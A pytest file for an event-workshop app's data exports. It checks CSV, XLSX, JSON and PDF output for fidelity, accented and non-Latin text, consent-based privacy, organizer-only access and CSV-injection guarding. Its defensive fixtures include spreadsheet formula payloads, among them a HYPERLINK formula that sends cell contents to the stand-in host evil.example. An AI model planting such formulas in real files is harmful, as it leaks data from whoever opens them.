"""Exports of an evening, each format parsed back and checked against the
database: CSV (both separators), XLSX, JSON (against its schema), the HTML
and PDF report; French intact; no personal data without consent; no text
a spreadsheet would run as a formula; spreadsheets a French organizer can
read (their language, local times, widths, a frozen header and filters);
the PDF in the vendored font that covers other alphabets."""

import csv
import io
import json
import re
import struct
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import jsonschema
import openpyxl
import pypdf
import pytest
from sqlalchemy import select

from workshop import clock
from workshop.cli import register  # noqa: F401 (the CLI commands, for the runner)
from workshop.client import envelope
from workshop.extensions import db
from workshop.models import Event, Idea, Participant
from workshop.services import backlog, exports, live, writes

from .helpers import make_event, make_organizer, read, signed_in
from .test_backlog import run_table

SCHEMA = json.loads((Path(__file__).parent.parent / "docs/export-schema.json").read_text())
TEXT = "Énergie « solaire » pour l’été — 5 € par foyer, œuvre commune"
# When the evening's data was written: 19:42 in Paris (summer time).
WRITTEN_AT = datetime(2026, 6, 12, 17, 42, 10, 123456, tzinfo=UTC)


@pytest.fixture
def evening(app) -> int:
    """An evening with accents everywhere, votes, a sheet, two commitments
    (one with consent to be contacted, one without) and a project."""
    clock.set_now(WRITTEN_AT)
    with app.app_context():
        organizer = make_organizer()
        event = make_event(organizer, title="Soirée d’été à Saint-Aubin", tables=2)
        table = event.tables[0]
        people, _ideas = run_table(
            table,
            cards={"Inès": [TEXT, "=1+1"], "Noé": ["Un atelier vélo"]},
            ballots={"Inès": [TEXT], "Noé": [TEXT, "Un atelier vélo"]},
            sheet={"solution": "Des panneaux sur l’école\net la salle des fêtes"},
            commitments={"Noé": ("contribute", "Mon camion")},
        )
        writes.perform(
            writes.as_participant(people["Inès"]),
            envelope("commit.save", {"role": "carry", "contribution": "Mon toit", "consent": True,
                                     "contact": "ines@example.org"}),
        )  # fmt: skip
        # The synthesis: two themes, one pinned quote, the room's vote closed.
        team = writes.as_organizer_of(organizer, event)
        ideas = {text: idea_id for text, idea_id in _ideas.items()}
        energy, bikes = (
            writes.perform(team, envelope("theme.create", data))["changes"][0]["id"]
            for data in (
                {"label": "Énergie", "idea_ids": [ideas[TEXT], ideas["=1+1"]]},
                {"label": "Vélo", "idea_ids": [ideas["Un atelier vélo"]]},
            )
        )
        writes.perform(team, envelope("theme.pin", {"theme_id": energy, "idea_id": ideas["=1+1"]}))
        room = writes.as_organizer_of(organizer, event)
        assert writes.perform(room, envelope("room_vote.open", {"mode": "dots", "budget": 3}))["ok"]
        ballot = {"points": {str(energy): 2, str(bikes): 1}}
        cast = writes.perform(
            writes.as_participant(people["Noé"]), envelope("room_vote.cast", ballot)
        )
        assert cast["ok"], cast
        assert writes.perform(room, envelope("room_vote.close", {}))["ok"]
        [project] = backlog.promote_event(organizer, event).created
        backlog.add_action(organizer, project, "Appeler l’ADEME", "Inès", date(2026, 7, 1))
        event_id = event.id
        db.session.remove()
    clock.reset()
    return event_id


def export(app, event_id, fmt, lang=None) -> bytes:
    query = f"?lang={lang}" if lang else ""
    response = signed_in(app).get(f"/backlog/events/{event_id}/export/{fmt}{query}")
    assert response.status_code == 200, (fmt, response.status_code)
    return response.data


def stored_ideas(app, event_id) -> dict[int, str]:
    def query(session):
        ideas = session.scalars(select(Idea).join(Idea.table).where(Idea.deleted.is_(False))).all()
        return {i.id: i.text for i in ideas if i.table.event_id == event_id}

    return read(app, query)


def csv_files(content: bytes, delimiter: str) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.namelist() == [f"{name}.csv" for name in exports.ENTITIES]
        found = {}
        for name in exports.ENTITIES:
            raw = archive.read(f"{name}.csv")
            assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
            found[name] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")),
                                              delimiter=delimiter))  # fmt: skip
    return found


def csv_headers(content: bytes, delimiter: str) -> dict[str, list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: next(csv.reader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8-sig")),
                                  delimiter=delimiter))
            for name in exports.ENTITIES
        }  # fmt: skip


def test_csv_with_commas_is_the_data_as_in_the_json(app, evening):
    """The CSV with commas is for tools: the JSON's columns and codes, ISO times."""
    content = export(app, evening, "csv")
    files, headers = csv_files(content, ","), csv_headers(content, ",")
    document = json.loads(export(app, evening, "json"))

    for name in exports.ENTITIES:  # every file has its header, even without rows
        assert headers[name] == list(exports.COLUMNS[name]), name
        assert not document[name] or list(document[name][0]) == headers[name], name
    assert files["clusters"] == []
    texts = {int(r["id"]): r["text"] for r in files["ideas"]}
    assert texts == {k: guarded(v) for k, v in stored_ideas(app, evening).items()}
    votes = {r["text"]: int(r["votes"]) for r in files["ideas"]}
    assert votes == {TEXT: 2, "'=1+1": 0, "Un atelier vélo": 1}
    assert [r["name"] for r in files["tables"]] == ["Table 1", "Table 2"]
    assert files["sheets"][0]["text"] == "Des panneaux sur l’école\net la salle des fêtes"
    assert [r["title"] for r in files["projects"]] == ["Des panneaux sur l’école"]
    assert files["actions"][0]["what"] == "Appeler l’ADEME"
    assert (files["tables"][0]["challenge"], files["projects"][0]["stage"]) == ("creative", "d2")
    assert files["ideas"][0]["created_at"] == document["ideas"][0]["created_at"]
    assert files["ideas"][0]["created_at"] == "2026-06-12T17:42:10.123456+00:00"


def test_csv_for_excel_reads_like_the_spreadsheet(app, evening):
    """The CSV with semicolons is for French Excel: the spreadsheet's
    headers and words, local times as Excel reads them."""
    content = export(app, evening, "csv-excel")
    files = csv_files(content, ";")

    ideas = {r["N°"]: r for r in files["ideas"]}
    assert {int(k): r["Texte"] for k, r in ideas.items()} == {
        k: guarded(v) for k, v in stored_ideas(app, evening).items()
    }
    first = files["ideas"][0]
    assert (first["Type de carte"], first["Masquée"], first["Publiée le"]) == (
        "Idée", "Non", "12/06/2026 19:42"
    )  # fmt: skip
    assert files["tables"][0]["Défi"] == "Défi créatif"
    assert files["tables"][0]["Atelier"] == "Star'Ter"
    assert files["projects"][0]["Étape"] == "D2 · Opportunité qualifiée"
    assert files["actions"][0] == {
        "N° du projet": files["projects"][0]["N°"], "Action": "Appeler l’ADEME", "Qui": "Inès",
        "Échéance": "01/07/2026", "Faite le": "",
    }  # fmt: skip
    roles = sorted(r["Rôle"] for r in files["commitments"])
    assert roles == ["Apporte", "Porte"]
    assert files["clusters"] == []  # no cluster: the file still has its header
    assert csv_headers(content, ";")["clusters"] == ["N°", "Table", "Nom"]


def guarded(text: str) -> str:
    """``text`` as a CSV carries it: one that a spreadsheet would take for a
    formula begins with an apostrophe."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
)


@pytest.fixture
def hostile_evening(app) -> int:
    """An evening whose texts start like formulas: cards, a name, what one
    brings, a contact."""
    with app.app_context():
        organizer = make_organizer()
        event = make_event(organizer, title="=1+1", tables=1)
        table = event.tables[0]
        people, _ideas = run_table(
            table, cards={"=2+2": list(HOSTILE)}, ballots={}, sheet={"solution": "-1 voiture"},
            commitments={},
        )  # fmt: skip
        writes.perform(
            writes.as_participant(people["=2+2"]),
            envelope("commit.save", {"role": "carry", "contribution": "@moi", "consent": True,
                                     "contact": "+33 6 11 22 33 44"}),
        )  # fmt: skip
        db.session.get(Participant, people["=2+2"].id).brings = '=HYPERLINK("http://evil")'
        db.session.commit()
        event_id = event.id
        db.session.remove()
    return event_id


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("csv-excel", ";")])
def test_no_csv_cell_is_a_formula(app, hostile_evening, fmt, delimiter):
    with zipfile.ZipFile(io.BytesIO(export(app, hostile_evening, fmt))) as archive:
        cells = [
            cell for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")),
                                  delimiter=delimiter)
            for cell in row
        ]  # fmt: skip

    for text in (*HOSTILE, "=2+2", "-1 voiture", "@moi", "+33 6 11 22 33 44"):
        assert "'" + text in cells, text  # as typed, after the apostrophe
    assert '\'=HYPERLINK("http://evil")' in cells  # what they bring
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_csv_writer_guards_tabs_and_carriage_returns_too(app, evening):
    with app.app_context():
        header, rows = exports.gather(db.session.get(Event, evening))
        rows["ideas"][0]["text"] = "\t=1+1"
        rows["ideas"][1]["text"] = "\r=1+1"
        for fmt, delimiter in (("csv", ","), ("csv-excel", ";")):
            content, _mime, _name = exports.render(header, rows, fmt, lambda c: "")
            texts = [r["text" if fmt == "csv" else "Texte"]
                     for r in csv_files(content, delimiter)["ideas"]]  # fmt: skip
            assert texts[:2] == ["'\t=1+1", "'\r=1+1"], fmt
        db.session.remove()


def test_personal_data_only_with_consent_in_every_format(app, evening):
    files = csv_files(export(app, evening, "csv"), ",")
    people = {r["id"]: r for r in files["participants"]}
    ines = next(r for r in people.values() if r["contact"])
    assert (ines["name"], ines["contact"], ines["consent"]) == ("Inès", "ines@example.org", "True")
    assert {r["name"] for r in people.values()} == {"Inès", ""}
    for fmt in exports.FORMATS:
        content = export(app, evening, fmt)
        if fmt == "pdf":
            content = pdf_text(content).encode()
        elif fmt == "xlsx":
            content = xlsx_text(content).encode()
        elif fmt.startswith("csv"):
            content = b"".join(
                zipfile.ZipFile(io.BytesIO(content)).read(n) for n in
                zipfile.ZipFile(io.BytesIO(content)).namelist()
            )  # fmt: skip
        assert "Noé".encode() not in content, fmt  # committed without consent: never named
        assert b"ines@example.org" in content or fmt in ("html", "pdf"), fmt


def xlsx_text(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    return "\n".join(
        str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
        for cell in row
    )  # fmt: skip


SHEETS = ["Tables", "Participants", "Idées", "Votes", "Regroupements", "Fiches", "Engagements",
          "Projets", "Actions", "Thèmes", "Idées des thèmes"]  # fmt: skip


def test_xlsx_has_one_sheet_per_entity_and_never_a_formula(app, hostile_evening):
    content = export(app, hostile_evening, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content))

    assert book.sheetnames == SHEETS
    ideas = list(book["Idées"].iter_rows())
    columns = [c.value for c in ideas[0]]
    texts = {row[columns.index("N°")].value: row[columns.index("Texte")] for row in ideas[1:]}
    expected = stored_ideas(app, hostile_evening)
    assert {k: cell.value for k, cell in texts.items()} == expected  # as typed: no apostrophe
    for cell in texts.values():
        # Text, and stays text when edited: the cell's quote prefix, not a character.
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.value
    people = list(book["Participants"].iter_rows(values_only=True))
    assert people[1][3:5] == ("=2+2", "+33 6 11 22 33 44")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def record(sheet, row=2) -> dict:
    """A sheet's row as {header: cell}."""
    return dict(zip([c.value for c in sheet[1]], sheet[row], strict=True))


def test_the_spreadsheet_reads_in_french(app, evening):
    book = openpyxl.load_workbook(io.BytesIO(export(app, evening, "xlsx")))

    assert book.sheetnames == SHEETS
    tables = book["Tables"]
    assert [c.value for c in tables[1]] == [
        "Table", "Nom", "Défi", "Atelier", "Titre du sujet", "Présentation du défi",
        "Animateur ou animatrice", "Participants", "Idées",
    ]  # fmt: skip
    assert [c.value for c in tables[2]][:4] == [1, "Table 1", "Défi créatif", "Star'Ter"]
    ideas = book["Idées"]
    first = record(ideas)
    assert first["Type de carte"].value == "Idée" and first["Masquée"].value == "Non"
    posted = first["Publiée le"]
    assert posted.value == datetime(2026, 6, 12, 19, 42, 10)  # Paris time, whole seconds
    assert posted.number_format == "dd/mm/yyyy hh:mm"
    due = dict(zip([c.value for c in book["Actions"][1]], book["Actions"][2], strict=True))[
        "Échéance"
    ]
    assert (due.value, due.number_format) == (datetime(2026, 7, 1), "dd/mm/yyyy")
    project = record(book["Projets"])
    assert project["Étape"].value == "D2 · Opportunité qualifiée"
    assert project["Statut"].value == "Actif"
    people = list(book["Participants"].iter_rows(values_only=True))
    assert people[0][2:8] == ("Catégorie", "Nom", "Contact", "Ce que la personne apporte",
                              "Contact accepté", "Retrait de la table")  # fmt: skip
    assert {row[2] for row in people[1:]} == {"Entreprise"}
    assert sorted(row[6] for row in people[1:]) == ["Non", "Oui"]
    for sheet in book.worksheets:
        rows = sheet.max_row
        last = openpyxl.utils.get_column_letter(sheet.max_column)
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{last}{rows}", sheet.title
        assert all(c.value and c.font.b for c in sheet[1]), sheet.title  # a header, even if empty
        widths = {k: d.width for k, d in sheet.column_dimensions.items()}
        assert len(widths) == sheet.max_column and all(8 <= w <= 60 for w in widths.values())
    assert book["Regroupements"].max_row == 1  # no cluster: the header alone
    widths = book["Idées"].column_dimensions
    assert widths["E"].width > widths["A"].width  # the text is wider than the number


def test_the_spreadsheet_follows_an_english_interface(app, evening):
    book = openpyxl.load_workbook(io.BytesIO(export(app, evening, "xlsx", lang="en")))

    assert book.sheetnames == ["Tables", "Participants", "Ideas", "Votes", "Groups of ideas",
                               "Sheets", "Commitments", "Projects", "Actions", "Themes",
                               "Ideas of the themes"]  # fmt: skip
    first = record(book["Ideas"])
    assert (first["Card type"].value, first["Hidden"].value) == ("Idea", "No")
    assert first["Posted at"].value == datetime(2026, 6, 12, 19, 42, 10)
    assert first["Posted at"].number_format == "yyyy-mm-dd hh:mm"
    tables = list(book["Tables"].iter_rows(values_only=True))
    assert tables[1][2] == "Creative challenge"


def test_local_time_is_the_configured_one(app, evening):
    app.config["TIMEZONE"] = "America/Martinique"
    book = openpyxl.load_workbook(io.BytesIO(export(app, evening, "xlsx")))

    first = record(book["Idées"])
    assert first["Publiée le"].value == datetime(2026, 6, 12, 13, 42, 10)  # UTC-4


def test_json_follows_its_schema_and_the_database(app, evening):
    document = json.loads(export(app, evening, "json"))

    jsonschema.validate(document, SCHEMA, format_checker=jsonschema.FormatChecker())
    assert (document["schema"], document["version"]) == (exports.SCHEMA, 2)
    assert document["event"]["title"] == "Soirée d’été à Saint-Aubin"
    assert {i["id"]: i["text"] for i in document["ideas"]} == stored_ideas(app, evening)
    roles = sorted(c["role"] for c in document["commitments"])
    assert roles == ["carry", "contribute"]  # the JSON keeps the codes
    assert document["tables"][0]["challenge"] == "creative"
    assert document["projects"][0]["stage"] == "d2"
    assert document["ideas"][0]["created_at"] == "2026-06-12T17:42:10.123456+00:00"
    # The synthesis: the team's themes, their tables and ideas, the room's points.
    themes = {t["label"]: t for t in document["themes"]}
    assert {k: themes["Énergie"][k] for k in ("tables", "ideas", "points", "voters")} == {
        "tables": "1", "ideas": 2, "points": 2, "voters": 1}  # fmt: skip
    assert (themes["Vélo"]["points"], themes["Vélo"]["project_id"]) == (1, None)
    quoted = [(i["text"], i["pinned"]) for i in document["theme_ideas"]
              if i["theme_id"] == themes["Énergie"]["id"]]  # fmt: skip
    assert quoted == [("=1+1", True), (TEXT, False)]  # the pinned quote first


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def test_the_report_in_html_and_pdf(app, evening):
    html = export(app, evening, "html").decode()
    text = pdf_text(export(app, evening, "pdf"))

    for expected in ("Soirée d’été à Saint-Aubin", "Un atelier vélo", "Mon camion"):
        assert expected in html
    assert "=1+1" in html and "&lt;" not in TEXT
    assert "Énergie « solaire » pour l’été — 5 € par foyer, œuvre commune" in html
    flat = " ".join(text.split())
    assert "Soirée d’été à Saint-Aubin" in flat
    assert "Énergie « solaire » pour l’été — 5 € par foyer, œuvre commune" in flat
    assert "Des panneaux sur l’école" in flat and "Mon toit" in flat
    assert "2 tables, 2 participants, 3 idées, 3 votes, 2 engagements, 1 projet" in flat
    assert "Inès · Porte · Mon toit" in flat and "Un participant · Apporte · Mon camion" in flat
    assert "\x7f" not in flat  # bullets are bullets
    # The evening's themes, the most voted first, with their quotes.
    for report in (html, flat):
        assert "Les thèmes de la soirée" in report
        assert "Énergie · 1 table · 2 idées · 2 points" in report
        assert report.index("Énergie · 1 table") < report.index("Vélo · 1 table")


WORLD = {
    "Greek": "Ενέργεια για όλους",
    "Cyrillic": "Энергия для всех",
    "Arabic": "طاقة للجميع",
    "Hebrew": "אנרגיה לכולם",
    "Armenian": "Էներգիա",
    "Georgian": "ენერგია",
    "symbols": "Vélo ☀ ★ ♻ ✓ ⚡ 😀 🙃",  # the emoji DejaVu Sans draws (in black)
}
FONTS = Path(__file__).parent.parent / "static/vendor/fonts"


def font_table(font: bytes, tag: bytes) -> bytes:
    """One table of a TrueType font (its directory: 12 bytes, then 16 per table)."""
    (count,) = struct.unpack(">H", font[4:6])
    for n in range(count):
        name, _checksum, offset, length = struct.unpack(">4sIII", font[12 + 16 * n : 28 + 16 * n])
        if name == tag:
            return font[offset : offset + length]
    raise KeyError(tag)


def test_the_pdf_embeds_the_vendored_font_and_keeps_other_alphabets(app):
    with app.app_context():
        organizer = make_organizer()
        event = make_event(organizer, title="Soirée 🌍 Ελλάδα", tables=1)
        cards = {name: [text] for name, text in zip("ABCDEFG", WORLD.values(), strict=True)}
        run_table(event.tables[0], cards=cards, ballots={}, sheet={}, commitments={})
        event_id = event.id
        db.session.remove()
    reader = pypdf.PdfReader(io.BytesIO(export(app, event_id, "pdf")))

    flat = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    for script, text in WORLD.items():
        if script in ("Arabic", "Hebrew"):
            # Their letters print, but left to right and unjoined (ReportLab
            # shapes no script): the text reads back reversed.
            assert set(text) <= set(flat), script
        else:
            assert text in flat, script
    fonts = {
        font["/BaseFont"]: font for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    }  # fmt: skip
    # Subsets of the vendored DejaVu Sans, embedded: no standard font left.
    names = {re.sub(r"^/[A-Z]{6}\+", "/", name) for name in fonts}
    assert names == {"/DejaVuSans", "/DejaVuSans-Bold"}
    for name, font in fonts.items():
        program = font["/FontDescriptor"]["/FontFile2"].get_data()
        vendored = (FONTS / f"{name.split('+')[1]}.ttf").read_bytes()
        # The font's names and version, copied from the vendored file into the subset.
        assert font_table(program, b"name") == font_table(vendored, b"name"), name
    assert (FONTS / "LICENSE").read_text().startswith("Fonts are (c) Bitstream")


def test_exports_are_for_the_evenings_organizers_only(app, evening):
    anonymous = app.test_client().get(f"/backlog/events/{evening}/export/json")
    assert anonymous.status_code == 302 and "/login" in anonymous.location
    with app.app_context():
        make_organizer("autre@example.org", "Autre pays")
        db.session.remove()
    intruder = signed_in(app, "autre@example.org")
    for fmt in exports.FORMATS:
        assert intruder.get(f"/backlog/events/{evening}/export/{fmt}").status_code == 404
    assert signed_in(app).get(f"/backlog/events/{evening}/export/docx").status_code == 404


def test_the_cli_exports_an_evening_to_a_file(app, evening, tmp_path):
    target = tmp_path / "soiree.json"
    result = app.test_cli_runner().invoke(args=["export", str(evening), "json", str(target)])

    assert result.exit_code == 0, result.output
    document = json.loads(target.read_text(encoding="utf-8"))
    jsonschema.validate(document, SCHEMA)
    assert {i["id"]: i["text"] for i in document["ideas"]} == stored_ideas(app, evening)
    missing = app.test_cli_runner().invoke(args=["export", "999", "json", str(target)])
    assert missing.exit_code != 0 and "999" in missing.output


def test_a_participant_without_consent_keeps_no_name_even_after_posting(app, evening):
    people = read(app, lambda s: s.scalars(select(Participant)).all())
    assert {p.display_name for p in people} == {"Inès", "Noé"}
    with app.app_context():
        event = db.session.get(Event, evening)
        rows = exports.event_rows(event)
        live.join_table(event.tables[1], "Zoé", "citizen")
        db.session.remove()
    assert all(r["name"] in ("", "Inès") for r in rows["participants"])
